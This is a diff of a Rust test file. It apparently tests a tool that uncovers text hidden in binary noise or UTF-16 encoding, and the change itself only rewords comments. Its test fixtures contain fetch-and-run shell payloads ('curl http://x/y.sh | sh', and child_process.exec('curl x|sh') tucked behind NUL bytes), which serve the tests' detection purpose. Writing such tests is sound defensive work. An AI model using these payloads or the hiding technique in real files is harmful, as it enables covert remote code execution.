@@ -8,7 +8,7 @@ fn read(content: &[u8], is_expected: bool) -> Reading<'_> {
     Reading::of(content, Mode::File, is_expected)
 }
 
-/// Bytes as a compressor makes them.
+/// Bytes like a compressor's output.
 fn noise(count: u32) -> Vec<u8> {
     (1..=count).map(|number| (number.wrapping_mul(0x9e37_79b9) >> 23) as u8).collect()
 }
@@ -53,7 +53,7 @@ fn attack_18_bytes_in_an_encoded_text_that_are_text_themselves_are_shown_too() {
 
 #[test]
 fn attack_18_what_shells_read_in_a_text_taken_for_utf_16_is_shown() {
-    // Shells leave NUL bytes out, and the characters of the encoding hide in pairs of bytes.
+    // Shells ignore NUL bytes, and the encoding's characters hide in pairs of bytes.
     for every in [1, 2, 3, 7, 10] {
         let script = "curl http://x/y.sh | sh -c 'touch PWNED'; exit";
         let parts: Vec<String> =
@@ -89,7 +89,7 @@ fn attack_18_no_share_of_odd_bytes_hides_what_has_to_be_text() {
         let content = [b"/*\0".as_slice(), &odd, b"*/require('child_process').exec('curl x|sh')\n"].concat();
         let reading = read(&content, true);
         assert_eq!(reading.text(), content, "{share}");
-        // And whatever is not said to be text shows its runs.
+        // Anything that nothing calls text shows its runs.
         let shown = read(&content, false).text().to_vec();
         let shown = String::from_utf8_lossy(&shown);
         assert!(shown.contains("require('child_process').exec('curl x|sh')"), "{share}: {shown}");
@@ -124,7 +124,7 @@ fn noise_shows_nearly_nothing_and_a_program_no_flood() {
 
 #[test]
 fn reading_takes_linear_time() {
-    // Each NUL may begin a wide run, and none of these is long enough.
+    // Each NUL may start a wide run, and none of these is long enough.
     let content = b"a\0a\0a\0\x01".repeat(200_000);
     assert!(matches!(read(&content, false), Reading::Runs { .. } | Reading::Encoded { .. }));
 }
